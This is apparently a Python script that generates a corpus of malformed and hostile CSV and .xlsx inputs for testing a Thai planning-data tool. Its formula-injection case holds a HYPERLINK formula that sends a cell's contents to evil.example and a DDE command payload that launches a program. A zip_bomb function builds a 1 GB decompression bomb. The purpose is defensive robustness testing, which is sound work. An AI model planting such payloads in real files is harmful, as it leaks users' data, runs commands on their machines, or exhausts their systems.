"""The bad-input corpus of issue 12: every hostile or broken input stratlink must
survive. ``python tests/data/bad/make_bad.py DIR`` writes the small cases (the ones
committed under tests/data/bad/) into DIR; ``--large`` adds the big generated ones
(a zip bomb, cells over Python's csv limit), which are never committed: the tests
generate them into a temporary folder.

Each case is a CSV workbook folder or an .xlsx file named after what is wrong with it;
``tests/test_bad_corpus.py`` says what stratlink must do with each.
"""

from __future__ import annotations

import sys
import zipfile
from pathlib import Path

PLANS = "id,level,name_th,period_start\r\nNS,national,ยุทธศาสตร์ชาติ,2561\r\nPV,province,แผนพัฒนาจังหวัด,2566\r\n"
ELEMENTS = "id,plan_id,kind,name_th\r\nS1,NS,strategy,ยุทธศาสตร์ที่ ๑\r\nG1,PV,goal,เป้าหมาย\r\n"
PROJECTS = ("id,plan_id,name_th,budget\r\nP1,PV,โครงการหนึ่ง,100\r\nP2,PV,โครงการสอง,200\r\n"
            "P3,PV,โครงการสาม,300\r\n")
LINKS = "source_id,target_id\r\nP1,G1\r\nP2,G1\r\nP3,G1\r\nG1,S1\r\n"


def folder(root: Path, name: str, encoding: str = "utf-8", **sheets: str) -> Path:
    out = root / name
    out.mkdir(parents=True, exist_ok=True)
    base = {"plans": PLANS, "elements": ELEMENTS, "projects": PROJECTS, "links": LINKS}
    for sheet, text in {**base, **sheets}.items():
        data = text if isinstance(text, bytes) else text.encode(encoding)
        (out / f"{sheet}.csv").write_bytes(data)
    return out


def small(root: Path) -> None:
    # project ids and names that a spreadsheet would run as formulas
    folder(root, "formula-injection",
           projects="id,plan_id,name_th,budget\r\n"
                    "\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",PV,=cmd|' /C calc'!A0,100\r\n"
                    "+SUM(1),PV,-2+3,1\r\n@SUM(1),PV,\"\tx\",2\r\nP4,PV,\"\rCR\",3\r\n",
           links="source_id,target_id\r\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",G1\r\n"
                 "+SUM(1),G1\r\n@SUM(1),G1\r\nP4,G1\r\nG1,S1\r\n")
    # line 3 opens a quote that never closes; P3 and P4 must still load, P5's row is 5
    folder(root, "unclosed-quote", projects="id,plan_id,name_th,budget\r\nP1,PV,หนึ่ง,100\r\n"
           "P2,PV,\"สอง,200\r\nP3,PV,สาม,300\r\nP4,PV,สี่,400\r\nP5,PV,ห้า,-1\r\n")
    # the same, but a later value is quoted: the stray quote would pair with it and
    # silently swallow the rows in between
    folder(root, "unclosed-quote-mid", projects="id,plan_id,name_th,budget\r\nP1,PV,หนึ่ง,100\r\n"
           "P2,PV,\"สอง,200\r\nP3,PV,สาม,300\r\nP4,PV,\"สี่, ๔\",400\r\nP5,PV,ห้า,-1\r\n")
    folder(root, "thai-header", plans="รหัส,ระดับ,ชื่อแผน\r\nNS,national,ยุทธศาสตร์ชาติ\r\nPV,province,จังหวัด\r\n")
    folder(root, "title-row", plans="แผนพัฒนาจังหวัดร้อยเอ็ด พ.ศ. 2566-2570\r\n\r\n" + PLANS)
    folder(root, "semicolon", plans=PLANS.replace(",", ";"), elements=ELEMENTS.replace(",", ";"))
    folder(root, "tab-separated", plans=PLANS.replace(",", "\t"))
    folder(root, "cp874", encoding="cp874")  # loads as cp874; --encoding latin-1 must refuse
    folder(root, "nul-byte", projects=PROJECTS.replace("โครงการสอง", "โครง\x00การสอง"))
    folder(root, "budget-400-digits", projects=PROJECTS.replace(",200\r\n", "," + "9" * 400 + "\r\n"))
    folder(root, "invisible-ids",
           projects="id,plan_id,name_th,budget\r\nP1,PV,หนึ่ง,1\r\nP2\u200b,PV,สอง,2\r\n\u200fP3,PV,สาม,3\r\n"
                    "\"P4\nX\",PV,สี่,4\r\nP5,PV,ถนน\u200bสาย,5\r\n",
           links="source_id,target_id\r\nP1,G1\r\nP2\u200b,G1\r\nP5,G1\r\nG1,S1\r\n")
    folder(root, "excel-errors", projects="id,plan_id,name_th,budget\r\nP1,PV,หนึ่ง,1\r\n#REF!,PV,สอง,2\r\n"
                                          "P3,PV,#N/A,3\r\nP4,PV,สี่,#VALUE!\r\n")
    xlsx_cases(root)


def xlsx_cases(root: Path) -> None:
    from openpyxl import Workbook

    def book(name: str, projects: list[list]) -> None:
        wb = Workbook()
        wb.remove(wb.active)
        for sheet, text in (("plans", PLANS), ("elements", ELEMENTS), ("links", LINKS)):
            ws = wb.create_sheet(sheet)
            for line in text.strip().split("\r\n"):
                ws.append(line.split(","))
        ws = wb.create_sheet("projects")
        for row in projects:
            ws.append(row)
        wb.save(root / name)

    head = ["id", "plan_id", "name_th", "budget"]
    # openpyxl saves formulas without a cached value, as some generators do
    book("formula-no-value.xlsx", [head, ["P1", "PV", "หนึ่ง", 100], ["P2", "PV", "=B2&\"x\"", "=SUM(D2:D2)"],
                                   ["P3", "PV", "สาม", 300]])
    # Excel error values (cells of type 'e')
    book("error-values.xlsx", [head, ["P1", "PV", "หนึ่ง", 100], ["#REF!", "PV", "สอง", 200],
                               ["P3", "PV", "#N/A", 300], ["P4", "PV", "สี่", "#DIV/0!"]])


# ---- large, generated at test time ----------------------------------------------------
def zip_bomb(path: Path, megabytes: int = 1024) -> Path:
    """A valid-looking .xlsx whose projects sheet expands to ``megabytes`` MB of rows
    (the issue's case: 4 MB on disk, a 1 GB sheet)."""
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.title = "plans"
    for name in ("elements", "projects", "links"):
        wb.create_sheet(name)
    wb.save(path)
    row = b'<row><c t="inlineStr"><is><t>P</t></is></c><c t="inlineStr"><is><t>PV</t></is></c></row>'
    block = row * ((1 << 20) // len(row) + 1)
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet3.xml":
                with dst.open(info.filename, "w", force_zip64=True) as fh:
                    head, _, tail = data.partition(b"<sheetData/>")
                    fh.write(head + b"<sheetData>")
                    written = 0
                    while written < megabytes << 20:
                        fh.write(block)
                        written += len(block)
                    fh.write(b"</sheetData>" + tail)
            else:
                dst.writestr(info, data)
    tmp.replace(path)
    return path


def long_cell(root: Path, chars: int, name: str = "long-cell") -> Path:
    """A project whose name is ``chars`` characters (Python's csv limit is 131,072)."""
    return folder(root, name, projects=PROJECTS.replace("โครงการสอง", "ก" * chars))


def large(root: Path) -> None:
    long_cell(root, 200_000)
    long_cell(root, 1_100_000, "over-cell-limit")
    zip_bomb(root / "zip-bomb.xlsx")


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else Path(__file__).parent)
    small(target)
    if "--large" in sys.argv:
        large(target)
